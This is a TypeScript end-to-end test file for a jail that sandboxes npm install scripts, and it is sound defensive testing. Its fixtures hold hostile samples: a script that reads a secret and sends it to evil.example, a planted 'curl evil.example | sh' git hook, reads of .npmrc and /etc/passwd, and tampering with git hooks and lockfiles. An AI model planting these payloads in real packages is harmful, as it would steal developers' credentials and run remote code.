/** Install scripts in the jail, end to end: the built command line, real npm, a registry on loopback, real jails. */
import { existsSync, linkSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { requires } from "../world/needs.ts";
import { alive, ScriptWorld, until, withoutJailHelper } from "../world/script-world.ts";

beforeEach((context) => requires(context, "jail"));

describe("scripts that build", () => {
  test("a dependency's before its dependent's; the outputs are there, and no store is written through a hard link", async () => {
    await using world = await ScriptWorld.make([
      {
        name: "a-user",
        dependencies: ["z-maker"],
        scripts: { install: `node -e "require('fs').writeFileSync('made.js', 'module.exports = ' + (require('z-maker/built.js') + 1))"` },
      },
      {
        name: "z-maker",
        scripts: { preinstall: "echo one > pre", postinstall: "cat pre && echo 'module.exports = 41' > built.js && echo '// built' >> index.js" },
      },
    ]);
    const { project } = world;
    expect((await project.cli(["npm", "ci", "--ignore-scripts"])).exit).toBe(0);
    expect(world.installed("z-maker/built.js")).toBeUndefined();
    const store = join(project.base, "store.js");
    linkSync(join(project.root, "node_modules/z-maker/index.js"), store);
    const before = readFileSync(store, "utf8");

    const { exit, scripts } = await world.install("--", "npm", "install");
    expect(exit).toBe(0);
    expect(scripts.map((one) => `${one.package} ${one.script} ${one.exit}`)).toEqual([
      "z-maker@1.0.0 preinstall 0",
      "z-maker@1.0.0 postinstall 0",
      "a-user@1.0.0 install 0",
    ]);
    expect(world.installed("a-user/made.js")).toBe("module.exports = 42");
    expect((await project.run("node", ["-p", "require('a-user/made.js')"])).stdout).toBe("42\n");
    expect(world.installed("z-maker/index.js")).toBe(`${before}// built\n`);
    expect(readFileSync(store, "utf8")).toBe(before);
    expect(lstatSync(join(project.root, "node_modules/z-maker/built.js")).uid).toBe(process.getuid?.());
  });

  test("what was built once is not built again, and is no difference; tampering with it is found", async () => {
    await using world = await ScriptWorld.make([
      {
        name: "builder",
        files: { "index.js": "", "gone.js": "removed by the script\n" },
        scripts: { postinstall: "mkdir -p out/deep && date +%N > out/deep/stamp && ln -s deep/stamp out/link && echo x >> index.js && rm gone.js" },
      },
      { name: "reader", scripts: { postinstall: "true" } },
    ]);
    world.registry.publish({ name: "left-pad", version: "1.0.0", manifest: { scripts: { postinstall: "echo new > built" } } });
    const { project } = world;
    expect((await project.cli(["npm", "ci"])).exit).toBe(0);
    const stamp = world.installed("builder/out/deep/stamp");
    const second = await world.install("--", "npm", "install", "left-pad");
    expect(second.document).toMatchObject({ decision: "allowed", tree: { differenceCount: 0 } });
    expect(second.scripts.map((one) => one.package)).toEqual(["left-pad@1.0.0"]);
    expect(world.installed("builder/out/deep/stamp")).toBe(stamp);
    expect(world.installed("left-pad/built")).toBe("new\n");
    const third = await world.install("--", "npm", "install");
    expect(third.scripts).toEqual([]);
    expect(third.exit).toBe(0);

    writeFileSync(join(project.root, "node_modules/builder/out/deep/stamp"), "tampered\n");
    const fourth = await project.cli(["npm", "install"]);
    expect(fourth.stderr).toMatch(/STOPPED: node_modules is not what was judged/);
    expect(fourth.stderr).toMatch(/(?:changed|extra) {2,}node_modules\/builder\/out\/deep\/stamp/);
    expect(fourth.exit).toBe(6);
    expect((await project.cli(["npm", "install"])).exit).toBe(0);
    expect(world.installed("builder/out/deep/stamp")).toMatch(/^\d+\n$/);
  });

  test("a grant to write is for that folder and no other, and stays good in the next install", async () => {
    const body = "echo a > $INIT_CWD/generated/a; echo b > $INIT_CWD/node_modules/.tool/b; echo c > ../neighbour/built/c; echo d > $INIT_CWD/other/d; true";
    await using world = await ScriptWorld.make([{ name: "writer", scripts: { postinstall: body } }, { name: "neighbour" }]);
    const { project } = world;
    mkdirSync(join(project.root, "other"));
    world.userPolicy("version: 1\nscripts: {grants: {writer: {write: [generated, node_modules/.tool, node_modules/neighbour/built]}}}\n");
    const { exit, scripts, stderr } = await world.install("--", "npm", "ci");
    expect(stderr).toBe("");
    expect(exit).toBe(0);
    expect(scripts).toMatchObject([
      {
        written: ["generated/a", "node_modules/.tool/b", "node_modules/neighbour/built/c"],
        refused: [{ kind: "write", what: join(project.root, "other/d") }],
        grant: "scripts: {grants: {writer: {write: [other]}}}",
      },
    ]);
    expect(project.read("generated/a")).toBe("a\n");
    expect(project.has("other/d")).toBe(false);
    const again = await world.install("--", "npm", "install");
    expect(again.document).toMatchObject({ decision: "allowed", scripts: [] });

    // What the report suggested: with it the script runs again, and has what it was refused.
    world.userPolicy("version: 1\nscripts: {grants: {writer: {write: [generated, node_modules/.tool, node_modules/neighbour/built, other]}}}\n");
    expect((await world.install("--", "npm", "install")).scripts).toMatchObject([{ package: "writer@1.0.0", refused: [] }]);
    expect(project.read("other/d")).toBe("d\n");
  });
});

test("phone home and a planted secret: refused and reported, on record, while the build step succeeds", async () => {
  const steal = `const { writeFileSync, readFileSync } = require("fs");
    let loot = "nothing";
    try { loot = readFileSync(process.argv[2], "utf8"); } catch {}
    require("https").get("https://evil.example/?" + loot).on("error", () => writeFileSync("built.txt", "built, " + loot));`;
  await using world = await ScriptWorld.make([{ name: "sneaky", files: { "steal.js": steal }, scripts: { postinstall: "node steal.js $SECRET" } }]);
  const { project, registry } = world;
  const secret = join(project.home, "secret.txt");
  writeFileSync(secret, "the planted secret");
  registry.publish({ name: "sneakier", version: "1.0.0", files: { "steal.js": steal }, manifest: { scripts: { postinstall: `node steal.js ${secret}` } } });
  const first = await project.cli(["npm", "install", "sneakier"]);
  expect(first.exit).toBe(0);
  expect(first.stderr).toContain(`refused  sneakier@1.0.0 postinstall: read ${secret} (`);
  expect(first.stderr).toMatch(/refused {2}sneakier@1\.0\.0 postinstall: evil\.example \(\w+ > node\): it has no network/);
  expect(first.stderr).toContain("scripts: {grants: {sneakier: {net: [evil.example:443]}}}");
  expect(first.stderr).not.toContain("the planted secret");
  expect(world.installed("sneakier/built.txt")).toBe("built, nothing");

  const { document, scripts, exit } = await world.install("--", "npm", "ci");
  expect(exit).toBe(0);
  expect(scripts.find((one) => one.package === "sneakier@1.0.0")).toMatchObject({
    exit: 0,
    refused: [
      { kind: "read", what: secret, why: "hidden" },
      { kind: "network", what: "evil.example", why: "no-network" },
    ],
    written: ["node_modules/sneakier/built.txt"],
    grant: "scripts: {grants: {sneakier: {net: [evil.example:443]}}}",
  });
  const search = await project.cli(["audit", "search", "--action", "RuntimeProtection", "--json"]);
  const { events } = JSON.parse(search.stdout);
  expect(events).toHaveLength(4);
  // Newest first; sneakier comes first in the order of the tree.
  expect(events[0]).toMatchObject({
    result: "success",
    details: { package: "sneaky@1.0.0", script: "postinstall", exit: 0, refused: [{ kind: "network", what: "evil.example" }], layers: { dropped: true } },
  });
  expect(document["auditRange"]).toContain(events[0].seq + 1);
  expect(JSON.parse((await project.cli(["audit", "verify", "--json"])).stdout)).toMatchObject({ failed: 0 });
});

describe("scripts that fail", () => {
  test.each([
    ["its own code", "echo broken things; exit 7", "", 7, /failed {3}bad@1\.0\.0 postinstall exited 7\n.*it said:\n +broken things/],
    ["3 after a refusal", "cat $INIT_CWD/../home/.npmrc || exit 7", "", 3, /refused {2}bad@1\.0\.0 postinstall: read .*\.npmrc/],
    ["128 and the signal", "kill -9 $$", "", 137, /bad@1\.0\.0 postinstall was ended by signal 9/],
    ["124 on the time limit", "sleep 60", "scripts: {timeout: 300ms}", 124, /stopped {2}bad@1\.0\.0 postinstall: its timeout limit was reached/],
    [
      "5 on the memory limit",
      `node -e "const a = []; for (;;) a.push(Buffer.alloc(1e7, 1))"`,
      "scripts: {memory: 200MB}",
      5,
      /stopped {2}bad@1\.0\.0 postinstall: its memory limit was reached/,
    ],
  ] as const)("%s", async (_name, body, policy, code, words) => {
    await using world = await ScriptWorld.make([
      { name: "a-good", scripts: { postinstall: "echo built > built" } },
      { name: "bad", dependencies: ["a-good"], scripts: { preinstall: "echo half > half", postinstall: body } },
      { name: "never", dependencies: ["bad"], scripts: { postinstall: "echo built > built" } },
    ]);
    const { project } = world;
    if (policy !== "") project.write("cofferdam.yaml", `version: 1\n${policy}\n`);
    const { exit, stderr } = await project.cli(["npm", "ci"]);
    expect(stderr).toMatch(words);
    expect(stderr).toContain("npm ci: installed and verified, but a script failed");
    expect(exit).toBe(code);
    if (code === 124) expect(stderr).toMatch(/\ncofferdam: stopped DEADLINE_EXCEEDED\n$/);
    if (code === 5) expect(stderr).toMatch(/\ncofferdam: stopped RESOURCE_EXHAUSTED\n$/);
    expect(world.installed("never/built")).toBeUndefined();
  });

  test("what was built before the failure is no difference for the next command, which tries again", async () => {
    await using world = await ScriptWorld.make([
      { name: "a-good", scripts: { postinstall: "echo built > built" } },
      { name: "bad", dependencies: ["a-good"], scripts: { preinstall: "echo half > half", postinstall: "[ -e $INIT_CWD/fixed ] && echo whole > whole" } },
    ]);
    expect((await world.project.cli(["npm", "ci"])).exit).toBe(1);
    world.project.write("fixed", "");
    const { document, scripts, exit } = await world.install("--", "npm", "install");
    expect(document).toMatchObject({ decision: "allowed" });
    expect(scripts.map((one) => `${one.package} ${one.script}`)).toEqual(["bad@1.0.0 preinstall", "bad@1.0.0 postinstall"]);
    expect(exit).toBe(0);
    expect(world.installed("bad/whole")).toBe("whole\n");
    expect((await world.install("--", "npm", "install")).document).toMatchObject({ decision: "allowed", scripts: [] });
  });

  test("of an optional package: said, and the install goes on", async () => {
    await using world = await ScriptWorld.make([
      { name: "extra", optional: true, scripts: { install: "exit 9" } },
      { name: "main", scripts: { install: "echo built > built" } },
    ]);
    const { exit, stderr } = await world.project.cli(["npm", "ci"]);
    expect(stderr).toMatch(/failed {3}extra@1\.0\.0 install exited 9 \(an optional package: the install goes on\)/);
    expect(exit).toBe(0);
    expect(world.installed("main/built")).toBe("built\n");
  });
});

describe("what scripts leave behind", () => {
  test("of a package: links out, set-id files, FIFOs, planted repositories and a sibling's files are not taken over", async () => {
    const body = [
      "echo fine > fine",
      "ln -s /etc/passwd leak && ln -s ../sibling/index.js near && ln -s fine inside",
      "cp /bin/true suid && chmod 4755 suid",
      "mkfifo pipe",
      "mkdir -p sub/.git && echo '[core]' > sub/.git/config",
      "mkdir .cofferdam-output && echo x > after",
      "printf x > \"$(printf 'bad\\377name')\"",
      "echo evil >> ../sibling/index.js",
      "true",
    ].join("; ");
    await using world = await ScriptWorld.make([{ name: "messy", scripts: { postinstall: body } }, { name: "sibling" }]);
    const { exit, scripts, document } = await world.install("--", "npm", "ci");
    expect(document).toMatchObject({ decision: "allowed" });
    expect(exit).toBe(0);
    const left = Object.fromEntries((scripts[0]?.leftOut ?? []).map(({ path, why }) => [path.replace("node_modules/messy/", ""), why]));
    expect(left).toMatchObject({
      leak: "a link out of the tree",
      near: "a link out of the tree",
      suid: "a set-user-id or set-group-id bit",
      pipe: "not a file, folder or link",
      "sub/.git": "a planted git folder",
      ".cofferdam-output": "a name of ours",
    });
    expect(Object.keys(left)).toHaveLength(7);
    expect(scripts[0]?.refused).toContainEqual(expect.objectContaining({ kind: "write", what: join(world.project.root, "node_modules/sibling/index.js") }));
    expect(readdirSync(join(world.project.root, "node_modules/messy")).sort()).toEqual(["after", "fine", "index.js", "inside", "package.json", "sub"]);
    expect(world.installed("sibling/index.js")).not.toContain("evil");
  });

  test("of the project's own script: hooks, workflows, lockfiles and node_modules stay as they are; its build is kept", async () => {
    const targets = [
      ".git/hooks/pre-commit",
      ".git/config",
      ".github/workflows/ci.yml",
      "package-lock.json",
      "package.json",
      "node_modules/dep/index.js",
      ".npmrc",
    ];
    const body = `mkdir dist .github; ${targets.map((path) => `echo evil >> ${path}`).join("; ")}; echo built > dist/index.js`;
    await using world = await ScriptWorld.make([{ name: "dep" }], { scripts: { postinstall: body } });
    const { project } = world;
    mkdirSync(join(project.root, ".git/hooks"), { recursive: true });
    project.write(".git/config", "[core]\n");
    const { exit, scripts } = await world.install("--", "npm", "ci");
    expect(exit).toBe(0);
    expect(project.read("dist/index.js")).toBe("built\n");
    const refused = scripts[0]?.refused?.filter(({ kind }) => kind === "write").map(({ what }) => what.slice(project.root.length + 1));
    expect(refused).toEqual(expect.arrayContaining([".git/hooks/pre-commit", ".git/config", "package-lock.json", "package.json", "node_modules/dep/index.js"]));
    // What was not there could not be protected beforehand.
    expect(scripts[0]?.leftOut?.map(({ path }) => path)).toEqual(expect.arrayContaining([".github", ".npmrc"]));
    for (const path of targets) if (existsSync(join(project.root, path))) expect(project.read(path)).not.toMatch(/^evil$/m);
    expect(project.has(".github")).toBe(false);
    expect(project.has(".npmrc")).toBe(false);
    // Nothing of it is suggested either, but what a grant can give.
    expect(scripts[0]?.grant).toBe('scripts: {grants: {".": {write: [node_modules/dep]}}}');
  });
});

describe("which run", () => {
  const packages = [
    { name: "approved", scripts: { postinstall: "echo ran > ran" } },
    { name: "denied", scripts: { postinstall: "echo ran > ran" } },
    { name: "unlisted", scripts: { postinstall: "echo ran > ran" } },
  ];
  const ran = (world: ScriptWorld): string[] => packages.map(({ name }) => name).filter((name) => world.installed(`${name}/ran`) !== undefined);

  test("by level: npm's own file at medium, a hash at high, none at paranoid", async () => {
    await using world = await ScriptWorld.make(packages, { allowScripts: { "approved@1.0.0": true, denied: false } });
    const { project } = world;
    const copies = project.takeCopies();
    const medium = await project.cli(["npm", "ci"]);
    expect(medium.stderr).toContain("skipped  scripts of denied@1.0.0: denied by denied in allowScripts of package.json");
    expect(medium.exit).toBe(0);
    expect(ran(world)).toEqual(["approved", "unlisted"]);

    const high = await project.cli(["install", "--level", "high", "--", "npm", "ci"]);
    expect(high.stderr).toContain("review   approved@1.0.0: install script, approved in allowScripts of package.json, but level high asks for");
    expect(high.stderr).toContain("allow: cofferdam scripts approve unlisted@1.0.0");
    expect(high.exit).toBe(3);
    expect(ran(world)).toEqual([]);

    for (const name of ["approved", "unlisted"]) expect((await project.cli(["scripts", "approve", `${name}@1.0.0`, "--level", "high", "--user"])).exit).toBe(0);
    const bound = await world.install("--level", "high", "--", "npm", "ci");
    expect(bound.document).toMatchObject({ decision: "allowed", level: "high" });
    expect(bound.exit).toBe(0);
    expect(ran(world)).toEqual(["approved", "unlisted"]);

    const paranoid = await project.cli(["install", "--level", "paranoid", "--", "npm", "ci"]);
    expect(paranoid.stderr).toContain("skipped  scripts of approved@1.0.0, denied@1.0.0, unlisted@1.0.0: level paranoid runs no scripts");
    expect(paranoid.exit).toBe(0);
    expect(ran(world)).toEqual([]);
    expect(readdirSync(copies)).toHaveLength(1);
  });

  test("none with --ignore-scripts; observing runs what would be skipped, in the jail all the same", async () => {
    await using world = await ScriptWorld.make(packages);
    const { project } = world;
    const ignored = await project.cli(["npm", "ci", "--ignore-scripts"]);
    expect(ignored.stderr).toContain("skipped  scripts of approved@1.0.0, denied@1.0.0, unlisted@1.0.0: ignore-scripts is set");
    expect(ignored.exit).toBe(0);
    expect(ran(world)).toEqual([]);
    world.userPolicy("version: 1\nmode: observe\n");
    const observed = await world.install("--level", "high", "--", "npm", "ci");
    expect(observed.exit).toBe(0);
    expect(observed.document["findings"]).toMatchObject([{ code: "trail-unseen", decision: "warn", message: expect.stringContaining("(would be refused)") }]);
    expect(observed.scripts).toMatchObject(packages.map(() => ({ decision: "jailed", layers: { seccomp: true, net: true } })));
    expect(ran(world)).toHaveLength(3);
  });

  test("none without the jail's helper, and the report says so", async () => {
    await using world = await ScriptWorld.make([packages[0] ?? { name: "none" }]);
    const { project } = world;
    const [node = "", cli = ""] = withoutJailHelper(join(project.base, "copy"));
    const { exit, stderr } = await project.run(node, [cli, "npm", "ci"]);
    expect(stderr).toMatch(/review {3}approved@1\.0\.0: install script, not run: the jail's helper is missing for \w+; skipped, loading it may fail/);
    expect(exit).toBe(3);
    expect(ran(world)).toEqual([]);
  });

  test("workspaces' and the project's own, in npm's order", async () => {
    const events = ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare", "dependencies"];
    const scripts = Object.fromEntries(events.map((event) => [event, "true"]));
    await using world = await ScriptWorld.make([{ name: "dep", scripts: { install: "true" } }], { scripts, workspaces: ["packages/*"] });
    const { project } = world;
    project.write("packages/w/package.json", JSON.stringify({ name: "w", version: "1.0.0", scripts, dependencies: { dep: "1.0.0" } }));
    project.editLock((lock) => {
      Object.assign(lock.packages[""] ?? {}, { workspaces: ["packages/*"] });
      lock.packages["packages/w"] = { name: "w", version: "1.0.0", dependencies: { dep: "1.0.0" } };
      lock.packages["node_modules/w"] = { resolved: "packages/w", link: true };
    });
    const { exit, scripts: ran } = await world.install("--", "npm", "ci");
    expect(exit).toBe(0);
    expect(ran.map(({ path, script }) => `${path} ${script}`)).toEqual([
      "node_modules/dep install",
      ...["preinstall", "prepare", "install", "postinstall"].map((event) => `packages/w ${event}`),
      ...["dependencies", "preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare"].map((event) => ` ${event}`),
    ]);
  });
});

describe("husky in the project's own prepare", () => {
  const HOOK = '#!/usr/bin/env sh\\n. "$(dirname "$0")/h"';
  const husky = (evil: string) => ({
    name: "husky",
    manifest: { bin: { husky: "bin.js" } },
    files: {
      husky: "#!/usr/bin/env sh\necho hooked\n",
      "bin.js": `#!/usr/bin/env node
        const { execFileSync } = require("child_process"), { mkdirSync, writeFileSync, copyFileSync } = require("fs");
        mkdirSync(".husky/_", { recursive: true });
        writeFileSync(".husky/_/.gitignore", "*");
        copyFileSync(__dirname + "/husky", ".husky/_/h");
        writeFileSync(".husky/_/pre-commit", '${HOOK}');
        execFileSync("git", ["config", "core.hooksPath", ".husky/_"]);
        ${evil}`,
    },
  });
  const made = async (evil: string, policy = ""): Promise<ScriptWorld> => {
    const world = await ScriptWorld.make([husky(evil)], { scripts: { prepare: "husky" } });
    await world.project.run("git", ["init", "-q"]);
    if (policy !== "") world.project.write("cofferdam.yaml", policy);
    return world;
  };
  const hooksPath = async (world: ScriptWorld): Promise<string> => (await world.project.run("git", ["config", "--local", "core.hooksPath"])).stdout.trim();

  test("works, and writes nothing but its own", async () => {
    await using world = await made("");
    const { exit, scripts, stderr } = await world.install("--", "npm", "ci");
    expect(stderr).toBe("");
    expect(scripts).toMatchObject([{ exit: 0, refused: [], leftOut: [], exceptions: ["husky"] }]);
    expect(exit).toBe(0);
    expect(await hooksPath(world)).toBe(".husky/_");
    expect(world.project.read(".husky/_/h")).toContain("hooked");
  });

  test("not when a byte of it is another", async () => {
    const evil = `writeFileSync(".husky/_/post-merge", "curl evil.example | sh"); writeFileSync(".husky/_/h", "evil");
      require("fs").appendFileSync(".git/config", "[alias]\\n\\tst = !evil\\n");`;
    await using world = await made(evil);
    const { scripts } = await world.install("--", "npm", "ci");
    expect(scripts[0]?.leftOut).toEqual(
      expect.arrayContaining([
        { path: ".git/config", why: "more than core.hooksPath = .husky/_ was changed" },
        { path: ".husky/_/h", why: "not what this exception writes there" },
        { path: ".husky/_/post-merge", why: "not what this exception writes there" },
      ]),
    );
    expect(await hooksPath(world)).toBe("");
    expect(world.project.has(".husky/_/h")).toBe(false);
    expect(world.project.read(".git/config")).not.toContain("evil");
  });

  test("nor when the exception is off", async () => {
    await using world = await made("", "version: 1\nscripts: {exceptions: {husky: off}}\n");
    const { scripts } = await world.install("--", "npm", "ci");
    expect(scripts).toMatchObject([{ exceptions: [] }]);
    expect(scripts[0]?.exit).not.toBe(0);
    expect(await hooksPath(world)).toBe("");
    expect(world.project.has(".husky")).toBe(false);
  });
});

describe("a run that is ended while a script runs", () => {
  const packages = (sleep: number) => [
    { name: "a-early", scripts: { postinstall: "echo built > built" } },
    {
      name: "b-slow",
      dependencies: ["a-early"],
      scripts: { postinstall: `if [ -e $INIT_CWD/hang ]; then echo half > half; sleep ${sleep}; fi; echo built > built` },
    },
  ];

  test.each(["SIGKILL", "SIGINT"] as const)("%s: nothing of it stays alive, and the next install is whole", async (signal) => {
    const sleep = 100_000 + Math.floor(Math.random() * 100_000);
    await using world = await ScriptWorld.make(packages(sleep));
    const { project } = world;
    project.write("hang", "");
    const child = project.start(["npm", "ci"]);
    await until(() => alive(`sleep\0${sleep}`) > 0);
    child.kill(signal);
    const code = await new Promise((resolve) => child.once("close", resolve));
    expect(code).toBe(signal === "SIGINT" ? 130 : null);
    await until(() => alive(`sleep\0${sleep}`) === 0 && alive(project.base) === 0, 5000);
    expect(world.installed("b-slow/half")).toBeUndefined();

    rmSync(join(project.root, "hang"));
    const again = await world.install("--", "npm", "install");
    expect(again.document).toMatchObject({ decision: "allowed" });
    if (signal === "SIGKILL") expect(again.document["repaired"]).toMatch(/an earlier run was killed/);
    expect(again.exit).toBe(0);
    expect([world.installed("a-early/built"), world.installed("b-slow/built")]).toEqual(["built\n", "built\n"]);
    expect(readdirSync(join(project.state, "runs"))).toEqual([]);
  });
});
